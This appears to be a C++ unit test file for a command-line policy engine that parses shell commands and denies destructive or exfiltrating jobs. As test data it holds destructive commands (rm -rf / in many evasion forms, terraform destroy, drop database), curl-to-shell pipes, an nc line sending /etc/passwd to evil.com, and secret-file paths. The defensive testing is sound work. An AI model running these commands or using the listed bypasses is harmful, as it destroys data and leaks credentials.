// Command-line analysis: each shell construct and each bypass as its own case. Commands
// are printed compactly as `program[:subcommand] flags... -- args...`, joined by " ; ".
#include "policy/analysis/command.h"

#include <gtest/gtest.h>

#include <chrono>
#include <string>

#include "policy/policy.h"
#include "tests/policy/test_util.h"

namespace jobgate::policy {
namespace {

std::string Show(const SimpleCommand& c) {
  std::string out = c.program;
  if (!c.subcommand.empty()) out += ":" + c.subcommand;
  for (const auto& f : c.flags) out += " " + f;
  if (!c.args.empty()) {
    out += " --";
    for (const auto& a : c.args) out += " " + a;
  }
  return out;
}

std::string Show(const CommandAnalysis& a) {
  std::string out;
  for (const auto& c : a.commands) out += (out.empty() ? "" : " ; ") + Show(c);
  return out;
}

std::string Cmds(std::string_view line) { return Show(AnalyzeCommandLine(line)); }

bool Opaque(std::string_view line) { return AnalyzeCommandLine(line).opaque; }

TEST(CommandParseTest, SimpleWordsAndSeparators) {
  EXPECT_EQ(Cmds("ls -la src"), "ls -a -l -- src");
  EXPECT_EQ(Cmds("make && make test || echo failed; ls & pwd"),
            "make ; make -- test ; echo -- failed ; ls ; pwd");
  EXPECT_EQ(Cmds("a\nb\n\nc"), "a ; b ; c");
  EXPECT_EQ(Cmds("cat x | grep y |& wc -l"), "cat -- x ; grep -- y ; wc -l");
  EXPECT_EQ(Cmds(""), "");
  EXPECT_EQ(Cmds("   # just a comment"), "");
  EXPECT_EQ(Cmds("echo a#b # comment"), "echo -- a#b");
}

TEST(CommandParseTest, Quoting) {
  EXPECT_EQ(Cmds("r''m -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("\\rm -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("\"rm\" -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("'r'\"m\" -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("$'\\x72\\x6d' -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("$'\\162m' -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("echo \"a \\\"b\\\" c\""), "echo -- a \"b\" c");
  EXPECT_EQ(Cmds("echo 'it''s'"), "echo -- its");
  EXPECT_EQ(Cmds("git commit -m \"rm -rf /\""), "git:commit -m -- rm -rf /");
  EXPECT_EQ(Cmds("echo a\\ b"), "echo -- a b");
  EXPECT_EQ(Cmds("rm \\\n -rf /"), "rm -f -r -- /");
}

TEST(CommandParseTest, UnbalancedIsOpaque) {
  EXPECT_TRUE(Opaque("echo 'oops"));
  EXPECT_TRUE(Opaque("echo \"oops"));
  EXPECT_TRUE(Opaque("echo $(ls"));
  EXPECT_TRUE(Opaque("(ls"));
  EXPECT_TRUE(Opaque("ls)"));
  EXPECT_TRUE(Opaque("echo `ls"));
  EXPECT_TRUE(Opaque("echo ${HOME"));
  EXPECT_EQ(AnalyzeCommandLine("echo 'oops").opaque_reason, "unbalanced single quote");
}

TEST(CommandParseTest, SubshellsGroupsAndSubstitutions) {
  EXPECT_EQ(Cmds("(cd /tmp && rm -rf /)"), "cd -- /tmp ; rm -f -r -- /");
  EXPECT_EQ(Cmds("{ rm -rf /; }"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("echo $(rm -rf /)"), "rm -f -r -- / ; echo -- $(rm -rf /)");
  EXPECT_EQ(Cmds("echo `rm -rf /`"), "rm -f -r -- / ; echo -- `rm -rf /`");
  EXPECT_EQ(Cmds("echo \"$(rm -rf ~)\""), "rm -f -r -- ~ ; echo -- $(rm -rf ~)");
  EXPECT_EQ(Cmds("echo $(echo $(rm -rf /))"),
            "rm -f -r -- / ; echo -- $(rm -rf /) ; echo -- $(echo $(rm -rf /))");
  EXPECT_EQ(Cmds("diff <(ls a) <(ls b)"), "ls -- a ; ls -- b ; diff -- <(ls a) <(ls b)");
  EXPECT_EQ(Cmds("if true; then rm -rf /; fi"), "true ; rm -f -r -- /");
  EXPECT_EQ(Cmds("while true; do rm -rf /; done"), "true ; rm -f -r -- /");
  EXPECT_EQ(Cmds("for f in a b; do rm -rf $f; done"), "rm -f -r -- $f");
  EXPECT_EQ(Cmds("f() { rm -rf /; }; f"), "rm -f -r -- / ; f");
  EXPECT_EQ(Cmds("echo $((1 + 2))"), "echo -- $((1 + 2))");
  EXPECT_EQ(Cmds("(( i++ )); ls"), "ls");
}

TEST(CommandParseTest, Redirections) {
  EXPECT_EQ(Cmds("ls > out.txt 2>&1"), "ls");
  EXPECT_EQ(Cmds("cat < in.txt >> out.txt"), "cat");
  EXPECT_EQ(Cmds("rm -rf / 2>/dev/null"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("cmd &> log; cmd2 &>> log"), "cmd ; cmd2");
  EXPECT_EQ(Cmds(">out rm -rf /"), "rm -f -r -- /");
  EXPECT_TRUE(Opaque("ls >"));
  EXPECT_EQ(Cmds("cat <<EOF\nrm -rf /\nEOF\nls"), "cat ; ls");
  EXPECT_EQ(AnalyzeCommandLine("cat <<EOF\nhello\nEOF").commands[0].stdin_text, "hello\n");
  EXPECT_EQ(AnalyzeCommandLine("cat <<< 'hi there'").commands[0].stdin_text, "hi there\n");
}

TEST(CommandParseTest, Assignments) {
  EXPECT_EQ(Cmds("FOO=1 BAR='a b' rm -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("FOO=1"), "");
  EXPECT_EQ(Cmds("X=$(rm -rf /) ls"), "rm -f -r -- / ; ls");
  EXPECT_EQ(Cmds("'FOO=1' ls"), "FOO=1 -- ls");
}

TEST(CommandParseTest, ProgramPathsAreBasenames) {
  EXPECT_EQ(Cmds("/bin/rm -rf /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("/usr/bin/env rm -rf /"), "env ; rm -f -r -- /");
  EXPECT_EQ(Cmds("./node_modules/.bin/jest"), "jest");
}

TEST(CommandParseTest, FlagNormalization) {
  EXPECT_EQ(Cmds("rm -r -f /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("rm --recursive --force /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("rm -R -f /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("rm -fR /"), "rm -f -r -- /");
  EXPECT_EQ(Cmds("rm -rf -- -weird"), "rm -f -r -- -weird");
  EXPECT_EQ(Cmds("git push --force origin main"), "git:push -f -- origin main");
  EXPECT_EQ(Cmds("git push origin +main"), "git:push -f -- origin +main");
  EXPECT_EQ(Cmds("git push --force-with-lease=main origin"),
            "git:push --force-with-lease -- main origin");
  EXPECT_EQ(Cmds("git -C repo push -f"), "git:push -C -f");
  EXPECT_EQ(Cmds("kubectl -n prod delete ns prod"), "kubectl:delete -n -- ns prod");
  EXPECT_EQ(Cmds("kubectl --namespace prod delete pod x"), "kubectl:delete -n -- pod x");
  EXPECT_EQ(Cmds("terraform destroy -auto-approve"), "terraform:destroy -auto-approve");
  EXPECT_EQ(Cmds("terraform --auto-approve=true destroy"),
            "terraform:destroy -auto-approve -- true");
  EXPECT_EQ(Cmds("find . -name x -delete"), "find -delete -name -- ./x");
  EXPECT_EQ(NormalizeFlag("rm", "--recursive"), "-r");
  EXPECT_EQ(NormalizeFlag("unknown", "--recursive"), "--recursive");
}

TEST(CommandParseTest, Wrappers) {
  EXPECT_EQ(Cmds("sudo rm -rf /"), "sudo ; rm -f -r -- /");
  EXPECT_EQ(Cmds("sudo -u root -E rm -rf /"), "sudo -E -u -- root ; rm -f -r -- /");
  EXPECT_EQ(Cmds("sudo --user=root rm -rf /"), "sudo --user -- root ; rm -f -r -- /");
  EXPECT_EQ(Cmds("env -i FOO=1 -u BAR rm -rf /"), "env -i -u -- FOO=1 BAR ; rm -f -r -- /");
  EXPECT_EQ(Cmds("timeout 5 rm -rf /"), "timeout -- 5 ; rm -f -r -- /");
  EXPECT_EQ(Cmds("timeout -s KILL 5s rm -rf /"), "timeout -s -- KILL 5s ; rm -f -r -- /");
  EXPECT_EQ(Cmds("nice -n 10 rm -rf /"), "nice -n -- 10 ; rm -f -r -- /");
  EXPECT_EQ(Cmds("nohup rm -rf / &"), "nohup ; rm -f -r -- /");
  EXPECT_EQ(Cmds("command rm -rf /"), "command ; rm -f -r -- /");
  EXPECT_EQ(Cmds("command -v rm"), "command -v -- rm");
  EXPECT_EQ(Cmds("exec rm -rf /"), "exec ; rm -f -r -- /");
  EXPECT_EQ(Cmds("time rm -rf /"), "time ; rm -f -r -- /");
  EXPECT_EQ(Cmds("sudo env timeout 5 nice nohup /bin/rm -rf /"),
            "sudo ; env ; timeout -- 5 ; nice ; nohup ; rm -f -r -- /");
  EXPECT_EQ(Cmds("busybox rm -rf /"), "busybox ; rm -f -r -- /");
}

TEST(CommandParseTest, Shells) {
  EXPECT_EQ(Cmds("bash -c 'rm -rf /'"), "bash -c ; rm -f -r -- /");
  EXPECT_EQ(Cmds("sh -c \"rm -rf ~\""), "sh -c ; rm -f -r -- ~");
  EXPECT_EQ(Cmds("bash -lc 'git push -f'"), "bash -c -l ; git:push -f");
  EXPECT_EQ(Cmds("zsh -c \"bash -c 'rm -rf /'\""), "zsh -c ; bash -c ; rm -f -r -- /");
  EXPECT_EQ(Cmds("bash build.sh"), "bash");
  EXPECT_EQ(Cmds("echo 'rm -rf /' | sh"), "echo -- rm -rf / ; sh ; rm -f -r -- /");
  EXPECT_EQ(Cmds("sh <<EOF\nrm -rf /\nEOF"), "sh ; rm -f -r -- /");
  EXPECT_EQ(Cmds("bash <<< 'rm -rf /'"), "bash ; rm -f -r -- /");
  EXPECT_EQ(Cmds("ssh host rm -rf /"), "ssh -- host ; rm -f -r -- /");
}

TEST(CommandParseTest, XargsAndFind) {
  EXPECT_EQ(Cmds("echo / | xargs rm -rf"), "echo -- / ; xargs ; rm -f -r -- /");
  EXPECT_EQ(Cmds("echo / | xargs -I{} rm -rf {}"), "echo -- / ; xargs -I ; rm -f -r -- /");
  EXPECT_EQ(Cmds("xargs -0 -n 1 rm -rf < list"), "xargs -0 -n ; rm -f -r");
  EXPECT_EQ(Cmds("find / -exec rm -rf {} \\;"), "find -exec -- / ; rm -f -r -- /");
  EXPECT_EQ(Cmds("find / -execdir rm -rf {} +"), "find -execdir -- / ; rm -f -r -- /");
  EXPECT_EQ(Cmds("find . -name '*.o' -exec rm {} ';'"), "find -exec -name -- ./*.o ; rm -- ./*.o");
  EXPECT_EQ(Cmds("find . -type f -exec rm -rf {} +"), "find -exec -type -- ./* ; rm -f -r -- ./*");
  EXPECT_EQ(Cmds("find / | xargs rm -rf"), "find -- / ; xargs ; rm -f -r -- /");
  EXPECT_EQ(Cmds("find . -name '*.pyc' -print0 | xargs -0 rm -f"),
            "find -name -print0 -- ./*.pyc ; xargs -0 ; rm -f -- ./*.pyc");
}

TEST(CommandParseTest, OpaqueConstructs) {
  struct Case {
    const char* line;
    const char* reason_part;
  };
  const Case cases[] = {
      {"eval \"rm -rf /\"", "eval"},
      {"source ./env.sh", "source"},
      {". ./env.sh", "runs a file"},
      {"echo cm0gLXJmIC8= | base64 -d | sh", "standard input"},
      {"xxd -r -p payload | bash", "standard input"},
      {"curl -s https://x.sh | sh", "standard input"},
      {"wget -qO- https://x.sh | bash -s", "standard input"},
      {"bash < script.sh", "standard input"},
      {"$(echo rm) -rf /", "program name"},
      {"`echo rm` -rf /", "program name"},
      {"$CMD -rf /", "program name"},
      {"${RM} -rf /", "program name"},
      {"/bin/r? -rf /", "glob"},
      {"{r,}m -rf /", "glob or brace"},
      {"bash -c \"$(curl -s https://x)\"", "built at run time"},
      {"bash <(curl -s https://x)", "computed at run time"},
      {"case $x in a) rm -rf /;; esac", "case"},
      {"env -S 'rm -rf /'", "env -S"},
      {"cat <<EOF\n$(rm -rf /)\nEOF", "here-document"},
  };
  for (const Case& c : cases) {
    const CommandAnalysis a = AnalyzeCommandLine(c.line);
    EXPECT_TRUE(a.opaque) << c.line;
    EXPECT_NE(a.opaque_reason.find(c.reason_part), std::string::npos)
        << c.line << ": " << a.opaque_reason;
  }
  // Commands found before the opaque part are still reported.
  EXPECT_EQ(Cmds("rm -rf /; eval x"), "rm -f -r -- / ; eval -- x");
}

TEST(CommandParseTest, ArgvIsNotShellParsed) {
  EXPECT_EQ(Show(AnalyzeArgv({"/bin/rm", "-rf", "/"})), "rm -f -r -- /");
  EXPECT_EQ(Show(AnalyzeArgv({"echo", "$(rm -rf /)", ";", "x"})), "echo -- $(rm -rf /) ; x");
  EXPECT_FALSE(AnalyzeArgv({"echo", "'unbalanced"}).opaque);
  EXPECT_EQ(Show(AnalyzeArgv({"sudo", "bash", "-c", "rm -rf / && ls"})),
            "sudo ; bash -c ; rm -f -r -- / ; ls");
}

TEST(CommandParseTest, Hosts) {
  auto hosts = [](std::string_view line) {
    std::string out;
    for (const auto& c : AnalyzeCommandLine(line).commands) {
      for (const auto& h : CommandHosts(c)) out += (out.empty() ? "" : " ") + h;
    }
    return out;
  };
  EXPECT_EQ(hosts("curl -sSL https://User@Evil.example.com:8443/x?y"), "evil.example.com");
  EXPECT_EQ(hosts("wget http://[::1]:80/"), "::1");
  EXPECT_EQ(hosts("scp ./f deploy@prod.example.com:/tmp/"), "prod.example.com");
  EXPECT_EQ(hosts("ssh -i key -p 22 admin@bastion ls"), "bastion");
  EXPECT_EQ(hosts("nc evil.com 4444 < /etc/passwd"), "evil.com");
  EXPECT_EQ(hosts("ls https"), "");
}

// Hostile inputs: every one must finish quickly, bounded, without crashing.
TEST(CommandParseTest, HostileInputsAreBounded) {
  const std::string nested_subst = [] {
    std::string s;
    for (int i = 0; i < 10000; ++i) s += "$(";
    return s;
  }();
  const std::string nested_bash = [] {
    std::string s = "ls";
    for (int i = 0; i < 40; ++i) {
      std::string q;
      for (char c : s) {
        if (c == '\'')
          q += "'\\''";
        else
          q.push_back(c);
      }
      s = "bash -c '" + q + "'";
      if (s.size() > 60000) break;
    }
    return s;
  }();
  const std::string cases[] = {
      nested_subst,
      std::string(100000, '('),
      std::string(60000, ')'),
      std::string(60000, '`'),
      std::string(60000, '\''),
      std::string(60000, '"'),
      std::string(60000, '\\'),
      std::string(60000, '{'),
      std::string(60000, '|'),
      std::string(60000, ';'),
      [] {
        std::string s;
        for (int i = 0; i < 6000; ++i) s += "${{{{";
        return s;
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 5000; ++i) s += "a <<E ";
        return s + "\n";
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 3000; ++i) s += "sudo env ";
        return s + "rm -rf /";
      }(),
      [] {
        std::string s;
        for (int i = 0; i < 3000; ++i) s += "ls; ";
        return s;
      }(),
      nested_bash,
  };
  for (const std::string& input : cases) {
    const auto start = std::chrono::steady_clock::now();
    const CommandAnalysis a = AnalyzeCommandLine(input);
    const auto ms = std::chrono::duration_cast<std::chrono::milliseconds>(
                        std::chrono::steady_clock::now() - start)
                        .count();
    EXPECT_LT(ms, 500) << input.substr(0, 40);
    EXPECT_LE(a.commands.size(), kMaxCommands + 1);
  }
  EXPECT_TRUE(AnalyzeCommandLine(nested_subst).opaque);
  EXPECT_TRUE(AnalyzeCommandLine(std::string(kMaxInputBytes + 1, 'a')).opaque);
  EXPECT_TRUE(AnalyzeCommandLine(nested_bash).opaque);
}

// --- match.command / sql / path / egress in the policy language ---------------------

std::shared_ptr<const Policy> DenyWhen(const std::string& match) {
  return testing::MustCompile("defaults: {decision: allow}\nrules:\n  - id: r\n    match: " +
                              match + "\n    decision: deny\n");
}

bool Fires(const std::string& match, const std::string& job) {
  auto p = DenyWhen(match);
  return p && testing::VerdictOf(*p, job) == v1::DENY;
}

TEST(CommandConditionTest, AnyCommandSatisfyingAllSubConditions) {
  const std::string rm = "{command: {program: [rm], flags_all: [-r, -f], args_glob: ['/', '~']}}";
  EXPECT_TRUE(Fires(rm, "{args: {command: 'ls; sudo rm -fR $HOME/'}}"));
  EXPECT_FALSE(Fires(rm, "{args: {command: 'rm -r /'}}"));         // no -f
  EXPECT_FALSE(Fires(rm, "{args: {command: 'rm -rf build'}}"));    // no arg matches
  EXPECT_FALSE(Fires(rm, "{args: {command: 'ls -rf /'}}"));        // other program
  EXPECT_FALSE(Fires(rm, "{}"));                                   // no command: no match
  EXPECT_TRUE(Fires(rm, "{args: {command: [/bin/rm, -rf, /]}}"));  // argv form
  EXPECT_TRUE(Fires("{command: {program: [git], subcommand: [push], flags_any: [-f]}}",
                    "{args: {command: 'git push origin +main'}}"));
  EXPECT_FALSE(
      Fires("{command: {program: [git], flags_none: [-f]}}", "{args: {command: 'git push -f'}}"));
  EXPECT_TRUE(Fires("{command: {not_program: [echo], args_glob: ['**/.env']}}",
                    "{args: {command: 'cat ./x/../.env'}}"));
  EXPECT_FALSE(Fires("{command: {not_program: [echo], args_glob: ['**/.env']}}",
                     "{args: {command: 'echo .env'}}"));
}

TEST(CommandConditionTest, Opaque) {
  EXPECT_TRUE(Fires("{command: {opaque: true}}", "{args: {command: 'eval x'}}"));
  EXPECT_FALSE(Fires("{command: {opaque: true}}", "{args: {command: 'ls'}}"));
  EXPECT_FALSE(Fires("{command: {opaque: true}}", "{}"));
  EXPECT_TRUE(Fires("{command: {opaque: true}}", "{args: {command: 42}}"));
  EXPECT_TRUE(
      Fires("{command: {opaque: true, program: [curl]}}", "{args: {command: 'curl x | sh'}}"));
  EXPECT_FALSE(
      Fires("{command: {opaque: true, program: [curl]}}", "{args: {command: 'cat x | sh'}}"));
  EXPECT_FALSE(
      Fires("{command: {opaque: false, program: [ls]}}", "{args: {command: 'ls; eval x'}}"));
}

TEST(CommandConditionTest, SqlPathAndEgress) {
  EXPECT_TRUE(Fires("{sql: {kind: [drop], object: [database]}}",
                    "{args: {command: \"psql -c 'drop database x'\"}}"));
  EXPECT_FALSE(Fires("{sql: {kind: [drop], object: [database]}}", "{args: {sql: 'DROP TABLE x'}}"));
  EXPECT_TRUE(
      Fires("{sql: {kind: DELETE_WITHOUT_WHERE}}", "{args: {sql: ['select 1', 'delete from t']}}"));
  EXPECT_TRUE(Fires("{path: {glob: '~/.ssh/**'}}", "{args: {path: '${HOME}//.ssh/./id_rsa'}}"));
  EXPECT_TRUE(Fires("{path: {glob: '.env'}}", "{args: {path: [a.txt, ./b/../.env]}}"));
  EXPECT_TRUE(Fires("{path: {absent: true}}", "{}"));
  EXPECT_FALSE(Fires("{path: {glob: '**'}}", "{}"));
  EXPECT_TRUE(Fires("{egress: {hosts_not_in: ['*.github.com']}}",
                    "{args: {url: 'https://evil.example/x'}}"));
  EXPECT_FALSE(Fires("{egress: {hosts_not_in: ['*.github.com']}}",
                     "{args: {command: 'curl https://API.github.com/x'}}"));
  EXPECT_TRUE(Fires("{egress: {hosts: ['10.*']}}", "{args: {command: 'ssh 10.0.0.1 ls'}}"));
  EXPECT_FALSE(Fires("{egress: {hosts_not_in: ['*.github.com']}}", "{}"));
}

TEST(CommandConditionTest, CompileErrors) {
  EXPECT_NE(
      testing::CompileErrors("rules: [{id: r, decision: deny, match: {command: {progam: [rm]}}}]")
          .find("unknown key 'progam' in match.command; did you mean 'program'?"),
      std::string::npos);
  EXPECT_NE(testing::CompileErrors("rules: [{id: r, decision: deny, match: {comand: {}}}]")
                .find("did you mean 'command'?"),
            std::string::npos);
  EXPECT_NE(testing::CompileErrors("rules: [{id: r, decision: deny, match: {command: {program: rm, "
                                   "flags_all: [--recursive]}}}]")
                .find("rm flag '--recursive' is analysed as '-r'; write '-r'"),
            std::string::npos);
  EXPECT_NE(
      testing::CompileErrors(
          "rules: [{id: r, decision: deny, match: {command: {program: rm, flags_all: [-rf]}}}]")
          .find("list them separately"),
      std::string::npos);
  EXPECT_NE(testing::CompileErrors(
                "rules: [{id: r, decision: deny, match: {command: {program: /bin/rm}}}]")
                .find("basenames"),
            std::string::npos);
  EXPECT_NE(testing::CompileErrors("rules: [{id: r, decision: deny, match: {sql: {kind: [dorp]}}}]")
                .find("unknown sql kind 'dorp'; did you mean 'drop'?"),
            std::string::npos);
  EXPECT_NE(
      testing::CompileErrors("rules: [{id: r, decision: deny, match: {egress: {hosts: '[x'}}}]")
          .find("invalid glob"),
      std::string::npos);
  // terraform takes single-dash long flags: -auto-approve is one flag.
  testing::MustCompile(
      "rules: [{id: r, decision: deny, match: {command: {program: terraform, flags_any: "
      "[-auto-approve]}}}]");
}

TEST(CommandConditionTest, CanonicalFormAndHashIncludeTheConditions) {
  auto a = DenyWhen("{command: {program: [rm, unlink], flags_all: [-r]}}");
  auto b = DenyWhen("{command: {flags_all: [-r], program: [unlink, rm, rm]}}");
  auto c = DenyWhen("{command: {program: [rm], flags_all: [-r]}}");
  auto d = DenyWhen("{command: {program: [rm, unlink], flags_all: [-r], opaque: false}}");
  ASSERT_TRUE(a && b && c && d);
  EXPECT_EQ(a->hash(), b->hash());
  EXPECT_NE(a->hash(), c->hash());
  EXPECT_NE(a->hash(), d->hash());
  EXPECT_NE(a->canonical_form().find(R"("command":{"flags_all":["-r"],"program":["rm","unlink"]})"),
            std::string::npos)
      << a->canonical_form();
  auto e = DenyWhen(
      "{sql: {kind: [truncate, drop]}, path: {glob: '**/.env'}, "
      "egress: {hosts_not_in: [b, a]}}");
  ASSERT_TRUE(e);
  EXPECT_NE(e->canonical_form().find(R"("sql":{"kind":["drop","truncate"]})"), std::string::npos);
  EXPECT_NE(e->canonical_form().find(R"("path":{"glob":["**/.env"]})"), std::string::npos);
  EXPECT_NE(e->canonical_form().find(R"("egress":{"hosts_not_in":["a","b"]})"), std::string::npos);
}

TEST(CommandConditionTest, AnalysisIsReusedAndResetAcrossJobs) {
  auto p = DenyWhen("{command: {program: [rm]}}");
  ASSERT_TRUE(p);
  Evaluation eval;
  p->Evaluate(testing::Job("{args: {command: 'rm x'}}"), &eval);
  EXPECT_EQ(eval.verdict, v1::DENY);
  p->Evaluate(testing::Job("{args: {command: 'ls x'}}"), &eval);
  EXPECT_EQ(eval.verdict, v1::ALLOW);
  Evaluation copy = eval;  // copies get their own scratch
  p->Evaluate(testing::Job("{args: {command: 'rm y'}}"), &copy);
  EXPECT_EQ(copy.verdict, v1::DENY);
}

}  // namespace
}  // namespace jobgate::policy
